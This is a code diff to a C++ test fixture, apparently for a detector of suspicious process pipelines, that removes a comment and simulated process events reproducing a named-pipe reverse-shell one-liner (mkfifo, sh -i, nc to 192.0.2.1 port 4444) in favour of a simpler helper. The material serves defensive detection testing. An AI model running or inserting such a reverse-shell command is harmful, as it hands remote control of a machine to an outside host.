@@ -84,16 +84,8 @@ struct Fixture {
             if (alert->rule.id == detect::pipe_rule().id) return &*alert;
         return nullptr;
     }
-    // mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 >/tmp/f, up to the connect
     void shell(bool connects = true) {
-        history.exec(100, 1, {"bash", "-c", "..."});
-        history.exec(101, 100, {"mkfifo", "/tmp/f"});
-        history.make_fifo(101, 100, "/tmp/f");
-        history.exec(102, 100, {"cat", "/tmp/f"});
-        history.exec(103, 100, {"sh", "-i"});
-        history.open(104, 100, "bash", Mode::write);
-        history.open(102, 100, "cat", Mode::read);
-        history.exec(104, 100, {"nc", "192.0.2.1", "4444"});
+        history.plain_shell();
         if (connects) history.connect(104, 100, "nc");
         run();
     }
